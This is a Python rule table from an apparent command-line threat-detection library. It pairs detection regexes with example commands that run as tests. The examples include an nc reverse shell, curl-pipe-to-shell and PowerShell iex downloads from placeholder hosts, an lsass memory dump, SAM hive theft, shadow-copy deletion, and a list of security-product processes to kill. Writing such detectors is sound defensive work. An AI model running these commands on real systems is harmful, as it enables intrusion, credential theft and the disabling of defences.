"""What command lines mean to do, one row a trait: hints cheap to look for, the test, examples that run as tests."""

from longtail.executions.meaning import (
    Row,
    Says,
    Trait,
    bare_address,
    double_extension,
    echo_to_file,
    encoded,
    fetches_program,
    hands_on_a_shell,
    remote_argument,
    runs_from_the_web,
    runs_remote,
    writable_target,
)

_STOP_OPTIONS = r"-(?:im|pid|fi|f)\b"
_PROTECTION = (
    r"\b(?:msmpeng|nissrv|windefend|wdnissvc|wdfilter|sense|mssense|securityhealthservice|wscsvc|sysmon(?:64|drv)?"
    r"|360\w+|zhudongfangyu|qqpc\w+|avp|avpsus|kav\w*|klnagent|ekrn|egui|mcshield|masvc|mfe\w+|ccsvchst|rtvscan"
    r"|sepmasterservice|sav(?:service|adminservice)|sophos[\w -]*|sentinel(?:agent|one|\w*service\w*)|csfalcon\w*"
    r"|csagent|cbdefense|carbonblack\w*|repmgr|xagt|cylance\w*|bdagent|vsserv|epsecurityservice|avast\w*|avg(?:svc|ui)"
    r"|ntrtscan|tmlisten|tmccsf|ds_agent|wrsa|mbam\w*|cyserver|cortex\w*|wdavdaemon|mdatp|falcon-sensor|auditd|ossec\w*"
    r"|wazuh\w*|osqueryd|elastic-(?:agent|endpoint)|aliyundun\w*|aliyun\w*|cloudmonitor|ydservice|qcloud\w*|clamd"
    r"|apparmor|fail2ban)\b"
)
"""The processes and services of protection products that intruders stop first, as their vendors name them."""

TRAITS: tuple[Row, ...] = (
    Row(
        Trait.REMOTE_ARGUMENT,
        ("://", "\\\\", "//", ".1", ".2", ".3", ".4", ".5", ".6", ".7", ".8", ".9"),
        remote_argument,
        ("bitsadmin /transfer n http://1.2.3.4/Svn.exe c:\\Users\\Public\\Svn.exe", "copy \\\\10.0.0.5\\c$\\x.exe ."),
        ("curl http://localhost:8080/health http://0.0.0.0:1/a http://[::1]:1/a", "ping -n 1 127.0.0.1"),
    ),
    Row(
        Trait.WRITABLE_TARGET,
        (
            "\\users\\",
            "/users/",
            "temp",
            "tmp",
            "%public",
            "%userprofile",
            "appdata",
            "recycle",
            "windows\\",
            "%windir",
            "%systemroot",
            "/dev/shm",
            "documents and settings",
            "~1",
            "$env:",
            "\\tasks",
        ),
        writable_target,
        ("bitsadmin /transfer n http://1.2.3.4/a c:\\Users\\Public\\Svn.exe", "sh -c 'chmod +x /tmp/x'"),
        ("net use /delete", "type C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ),
    Row(
        Trait.BARE_ADDRESS,
        (".1", ".2", ".3", ".4", ".5", ".6", ".7", ".8", ".9"),
        bare_address,
        ("cmd /c echo open 198.51.100.7>So.2", "curl -o a http://203.0.113.9:8080/a"),
        ("ping 10.1.2.3", "curl https://www.example.com/1.2/a.zip"),
    ),
    Row(
        Trait.FETCHES_PROGRAM,
        ("//",),
        fetches_program,
        (
            "certutil -urlcache -f https://example.com/upd/a.exe a.txt",
            "regsvr32 /s /n /u /i:http://1.2.3.4/x.sct scrobj.dll",
        ),
        ("curl https://api.example.com/orders.json -o o.json", "curl https://example.com/ -o a.exe"),
    ),
    Row(
        Trait.HANDS_ON_A_SHELL,
        ("cmd", "powershell", "pwsh", "sh -", "/sh", "bash", "/dash", "/zsh"),
        hands_on_a_shell,
        ('C:\\Temp\\x.exe -i -c "cmd /c whoami"', 'nc -e "/bin/sh -i" 198.51.100.4 443'),
        ('forfiles /p D:\\bak /c "cmd /c del @path"', "powershell -File C:\\jobs\\a.ps1"),
    ),
    Row(
        Trait.DOUBLE_EXTENSION,
        (".exe", ".scr", ".com", ".pif", ".bat", ".cmd", ".js", ".vb", ".wsf", ".hta", ".lnk", ".ps1"),
        double_extension,
        ("cmd /c start invoice.pdf.exe", "wscript C:\\Temp\\photo.jpg.vbs"),
        ("C:\\App\\my.service.exe", "tar xf backup.txt.gz"),
    ),
    Row(
        Trait.ENCODED,
        ("base64", "decode", "openssl", "-e", "/e", "\u2013e", "=="),
        encoded,
        (
            "powershell -enc dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==",
            "sh -c 'echo Y3VybCBodHRwOi8vMS4yLjMuNC9hCg== | base64 -d'",
        ),
        ("certutil -hashfile C:\\x.iso SHA256", "sqlcmd -i C:\\scripts\\IndexMaintenanceWeekly.sql"),
    ),
    Row(
        Trait.ECHO_TO_FILE,
        ("echo", "printf"),
        echo_to_file,
        ('"C:\\Windows\\system32\\cmd.exe" /c echo open 1.2.3.4>So.2', "cmd /c echo get Svn.exe >>So.2"),
        ("cmd /c echo done > nul", "sh -c 'echo failed >&2'"),
    ),
    Row(
        Trait.STOPS_SOMETHING,
        (),
        Says(
            {
                "taskkill tskill pskill pskill64": _STOP_OPTIONS + r"|^\S",
                "ntsd cdb windbg": r"-c\s+\"?(?:q|\.kill)\b",
                "sc": r"^(?:\\\\\S+\s+)?(?:stop|delete)\b|^(?:\\\\\S+\s+)?config\b.*start=\s*disabled",
                "net net1": r"^stop\s+\S",
                "wmic": r"\b(?:call\s+terminate|process\b.*\bdelete)\b",
                "stop-process stop-service spps kill spsv": r"",
                "pkill killall killall5": r"\S",
                "systemctl": r"^(?:-\S+\s+)*(?:stop|kill|disable|mask)\b",
                "service": r"^\S+\s+stop\b",
            }
        ),
        ("taskkill  /im 360rp.exe /f", "ntsd -c q -pn 360rp.exe"),
        ("sc query MSSQLSERVER", "cmd /c echo taskkill /im x"),
    ),
    Row(
        Trait.RUNS_REMOTE,
        ("://", "\\\\"),
        runs_remote,
        ("regsvr32 /s /n /u /i:http://1.2.3.4/x.sct scrobj.dll", "sh -c 'curl -s http://1.2.3.4/x | sh'"),
        ("curl -o x.zip https://example.com/x.zip", "ping -n 1 127.0.0.1"),
    ),
    Row(
        Trait.RUNS_FROM_THE_WEB,
        ("://", "\\\\"),
        runs_from_the_web,
        ("mshta http://cdn.example.org/x", "powershell -nop iex(irm https://cdn.example.org/x)"),
        ("regsvr32 /s \\\\fs01\\tools\\x.dll", "powershell iwr https://cdn.example.org/x -OutFile x.zip"),
    ),
    Row(
        Trait.CHANGES_ACCOUNTS,
        (),
        Says(
            {
                "net net1": r"^(?:user|localgroup|group)\s.*(?:-add|-delete|-active|-passwordreq)|^user\s+\S+\s+[^-\s]",
                "useradd adduser usermod userdel deluser groupadd gpasswd chpasswd passwd": r"^(?!-S)\S",
                "new-localuser add-localgroupmember set-localuser remove-localuser new-aduser add-adgroupmember": r"",
                "wmic": r"^useraccount\b.*\b(?:set|rename|delete)\b",
                "dsadd dsmod": r"^(?:user|group)\b",
            }
        ),
        ('cmd /c "net user bob P@ss1 /add"', "net1 localgroup administrators bob /ADD"),
        ("net user bob", "net use z: \\\\fs01\\share"),
    ),
    Row(
        Trait.PERSISTS,
        (),
        Says(
            {
                "schtasks": r"-(?:create|change)\b",
                "sc": r"^(?:\\\\\S+\s+)?create\b|^(?:\\\\\S+\s+)?config\b.*\bbinpath=",
                "reg": r"^add\b.*(?:\\run(?:once|services)?(?:ex)?\b|image file execution options|\\winlogon\b"
                r"|\\services\\|userinitmprlogonscript|silentprocessexit|appinit_dlls)",
                "at": r"\d{1,2}:\d\d\S*\s+\S|^now\b",
                "crontab": r"^(?!-l|-u\s+\S+\s+-l)\S",
                "systemctl": r"^(?:-\S+\s+)*enable\b",
                "new-service register-scheduledtask new-scheduledtask register-scheduledjob set-service": r"",
                "bitsadmin": r"-setnotifycmdline\b",
                "echo printf tee cp mv copy move": r"[\\/]cron(?:tab|\.d|\.daily|\.hourly)?\b|[\\/]startup[\\/]"
                r"|[\\/]systemd[\\/]system[\\/]|authorized_keys|[\\/]spool[\\/]cron",
            }
        ),
        (
            "schtasks /create /tn n /tr C:\\Users\\Public\\x.exe /sc daily",
            'cmd /c reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d "c:\\x.exe"',
        ),
        ("schtasks /query /fo csv", "reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"),
    ),
    Row(
        Trait.OPENS_FIREWALL,
        (),
        Says(
            {
                "netsh": r"firewall\b.*\badd\b",
                "new-netfirewallrule": r"",
                "iptables ip6tables": r"(?:^|\s)-[ai]\s.*-j\s+accept\b",
                "ufw": r"^allow\b",
                "firewall-cmd": r"-add-(?:port|service|rich-rule|source)\b",
            }
        ),
        (
            "netsh advfirewall firewall add rule name=x dir=in action=allow protocol=TCP localport=1433",
            "sh -c 'iptables -A INPUT -p tcp --dport 8443 -j ACCEPT'",
        ),
        ("netsh advfirewall set allprofiles state off", "iptables -L -n"),
    ),
    Row(
        Trait.ANSWERS_TO_A_SHARE,
        ("$\\",),
        Says({"*": r">\s?\\\\[^\\\s]{1,255}\\(?:admin|ipc|[a-z])\$\\"}),
        (
            "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1700000000.12 2>&1",
            'cmd.exe /c "tasklist /v" > \\\\srv1\\C$\\Windows\\Temp\\o.txt',
        ),
        ("robocopy D:\\backup \\\\nas\\d$\\backup /mir", "cmd /c dir > \\\\nas\\logs\\dir.txt"),
    ),
    Row(
        Trait.WEAKENS_DEFENCE,
        (),
        Says(
            {
                "netsh": r"firewall\b.*\b(?:off|disable)\b",
                "set-mppreference add-mppreference": r"disable|exclusion",
                "mpcmdrun": r"-removedefinitions",
                "vssadmin": r"^(?:delete\s+shadows|resize\s+shadowstorage)",
                "wmic": r"shadowcopy\b.*delete",
                "wbadmin": r"^delete\b",
                "bcdedit": r"-set\b.*(?:recoveryenabled\s+no|ignoreallfailures|testsigning)",
                "wevtutil": r"^(?:cl|clear-log)\b|^sl\b.*-e:false",
                "clear-eventlog remove-eventlog": r"",
                "auditpol": r"-(?:clear|remove)\b|-(?:success|failure):disable",
                "reg": r"^add\b.*(?:windows defender|\\policies\\system).*\b(?:disable|enablelua)",
                "iptables ip6tables nft": r"(?:^|\s)(?:-f|-flush|flush)\b|-p\s+\w+\s+accept",
                "ufw": r"^disable\b",
                "setenforce": r"^(?:0|permissive)\b",
                "history": r"-c\b",
                "taskkill tskill pskill pskill64 pkill killall stop-process stop-service spps spsv kill": _PROTECTION,
                "ntsd cdb windbg": rf"-pn?\b.*{_PROTECTION}",
                "sc": rf"\b(?:stop|delete|config)\b.*{_PROTECTION}",
                "net net1": rf"^stop\b.*{_PROTECTION}",
                "systemctl service": rf"\b(?:stop|disable|mask|kill)\b.*{_PROTECTION}|{_PROTECTION}.*\bstop\b",
            }
        ),
        ("vssadmin  delete shadows /all /quiet", "cmd /c netsh advfirewall set allprofiles state off"),
        ("netsh advfirewall show allprofiles", "vssadmin list shadows"),
    ),
    Row(
        Trait.TAKES_CREDENTIALS,
        ("sekurlsa", "lsadump", "comsvcs", "ntds"),
        Says(
            {
                "reg": r"^(?:save|export)\s+(?:\\\\[^\\\s]+\\)?(?:hklm|hkey_local_machine)\\"
                r"(?:sam|security|system(?:\\(?:currentcontrolset|controlset\d+)(?:\\control(?:\\lsa)?)?)?)(?![\w\\])",
                "procdump procdump64 rundll32 sqldumper nanodump": r"\blsass(?:\.exe)?\b|minidump\s+\d",
                "cmdkey": r"-list\b",
                "vaultcmd": r"-list(?:creds|credentials)",
                "cat cp tail head less scp tar": r"/etc/(?:g?shadow)\b",
                "sqlcmd osql isql bcp invoke-sqlcmd": r"\bpassword_hash\b|\bpasswordhash\b",
                "psql": r"\brolpassword\b|\bpg_shadow\b",
                "mysql mariadb": r"\bauthentication_string\b",
                "copy esentutl ntdsutil": r"\bntds(?:\.dit)?\b|config\\sam\b",
                "*": r"sekurlsa::|lsadump::|comsvcs(?:\.dll)?\s*,?\s*(?:minidump|#\+?24)\b"
                r"|ac(?:tivate)? i(?:nstance)? ntds",
            }
        ),
        (
            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\x.dmp full",
            "reg save HKLM\\SAM C:\\Users\\Public\\s.hiv",
        ),
        ("reg export HKLM\\SYSTEM\\CurrentControlSet\\Services\\x x.reg", "cmdkey /?"),
    ),
)
"""In the order of ``Trait``; the examples of every row run as tests."""
